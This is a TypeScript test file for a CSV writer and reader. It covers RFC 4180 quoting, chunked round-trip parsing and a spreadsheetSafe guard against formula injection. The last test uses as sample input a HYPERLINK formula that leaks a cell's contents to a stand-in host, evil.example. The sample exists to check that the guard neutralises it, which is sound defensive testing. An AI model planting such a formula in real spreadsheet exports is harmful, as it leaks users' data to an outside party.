import fc from 'fast-check';
import { CsvReader, csvField, csvRow, parseCsv, spreadsheetSafe } from './csv';

describe('RFC 4180 CSV', () => {
  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('Aluminium')).toBe('Aluminium');
    expect(csvField('Magnesium, "AZ31" alloying')).toBe('"Magnesium, ""AZ31"" alloying"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(0.0004)).toBe('0.0004');
    expect(csvRow(['a', 'b,c', null, 3])).toBe('a,"b,c",,3\r\n');
  });

  it('reads back what it writes, however the text is cut into chunks', () => {
    const field = fc.string({ unit: fc.constantFrom('a', 'b', ',', '"', '\r', '\n', ' ', 'é') });
    fc.assert(
      fc.property(
        fc.array(fc.array(field, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        fc.integer({ min: 1, max: 7 }),
        (records, size) => {
          const text = records.map(csvRow).join('');
          const reader = new CsvReader();
          const read: string[][] = [];
          for (let i = 0; i < text.length; i += size) read.push(...reader.push(text.slice(i, i + size)));
          read.push(...reader.end());
          expect(read).toEqual(records);
        },
      ),
    );
  });

  it('accepts LF record ends and a last record without one, and tells a file cut inside quotes', () => {
    expect(parseCsv('a,b\nc,d')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
    const reader = new CsvReader();
    expect(reader.push('a,"open\r\n')).toEqual([]);
    expect(reader.insideQuotes).toBe(true);
  });

  it('neutralises text a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
    for (const text of ['=HYPERLINK("http://evil.example/?leak="&A2)', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
      expect(spreadsheetSafe(text)).toBe(`'${text}`);
    }
    expect(csvRow(['=1+1', -3.5].map(spreadsheetSafe))).toBe("'=1+1,-3.5\r\n");
    expect(csvField(spreadsheetSafe('=HYPERLINK("x")'))).toBe(`"'=HYPERLINK(""x"")"`);
    for (const value of ['Aluminium', "it's", ' =not first', '', null, undefined, 0, -0.25, true]) expect(spreadsheetSafe(value)).toBe(value);
  });
});
